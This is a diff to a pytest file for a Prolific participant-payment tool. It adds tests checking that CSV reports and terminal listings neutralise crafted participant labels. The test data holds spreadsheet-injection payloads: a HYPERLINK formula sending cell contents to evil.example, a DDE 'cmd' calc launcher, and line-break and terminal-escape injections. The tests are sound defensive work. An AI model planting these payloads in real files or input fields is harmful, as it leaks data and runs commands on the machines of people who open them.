@@ -1,5 +1,6 @@
 """`invoke prolific`'s rules, without Docker: completion links, who gets a bonus and why not,
 the report's rows, the blocklist, and files that are never overwritten."""
+import csv
 import os
 
 import pytest
@@ -134,3 +135,52 @@ def test_an_unknown_action_is_refused_before_anything_is_read():
         prolific.run("pay")
     with pytest.raises(StackError, match="--session CODE"):
         prolific.run("bonuses")
+
+
+# Labels a participant can put in the start link (?participant_label=...): formulas a spreadsheet
+# would run, and characters that split a cell or a line.
+CRAFTED = {
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")': '\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "+1": "'+1",
+    "-cmd|' /C calc'!A0": "'-cmd|' /C calc'!A0",
+    "@SUM(A1:A9)": "'@SUM(A1:A9)",
+    "\t=1+1": "'=1+1",
+    " =1+1": "' =1+1",
+    "two\tcells": "twocells",
+    "line\nbreak\r\nhere": "linebreakhere",
+    "\x1b[2Jcleared": "[2Jcleared",
+    "-1.5": "-1.5",
+    "42": "42",
+    "LAB-07": "LAB-07",
+}
+
+
+def test_the_report_file_neutralises_labels_a_spreadsheet_would_run_and_keeps_numbers(tmp_path):
+    participants = [person(number, label) for number, label in enumerate(CRAFTED, 1)]
+    path = tmp_path / "report.csv"
+    prolific.write_new(str(path), prolific.report_csv(prolific.report_rows(session(participants))))
+    text = path.read_text(encoding="utf-8")
+    assert text.count("\n") == len(CRAFTED) + 1 and "\r" not in text and "\t" not in text and "\x1b" not in text
+    with open(path, encoding="utf-8", newline="") as handle:
+        written = {row["participant_code"]: row["prolific_id"] for row in csv.DictReader(handle)}
+    assert written == {f"code{number}": shown for number, shown in enumerate(CRAFTED.values(), 1)}
+
+
+def test_the_terminal_lists_show_labels_neutralised(capsys):
+    participants = [person(number, label, index=1) for number, label in enumerate(CRAFTED, 1)]
+    participants.append(person(99, "line\nbreak\r\nhere", index=1))  # a duplicate label
+    _, left_out, duplicates = prolific.bonus_lines(participants)
+    prolific._show_left_out(left_out, duplicates)
+    print(prolific.report_table(prolific.report_rows(session(participants))))
+    shown = capsys.readouterr()
+    said = shown.out + shown.err
+    assert "\x1b[2J" not in said and "\t" not in said and "\r" not in said  # the bold of ==> stays
+    assert "(code1, '=HYPERLINK(" in said and "'@SUM(A1:A9)" in said and "linebreakhere (2 times)" in said
+    assert len(said.splitlines()) == 2 + 2 * len(participants) + 1  # one line each, nothing split
+
+
+def test_a_prolific_id_with_a_line_break_after_it_is_not_one():
+    participants = [person(1, ID[1] + "\n=HYPERLINK(1)"), person(2, ID[2] + "\n")]
+    lines, left_out, _ = prolific.bonus_lines(participants)
+    assert lines == [] and len(left_out) == 2
+    assert prolific.blocklist_ids([ID[2] + "\n", ID[3]]) == ([ID[3]], 1)
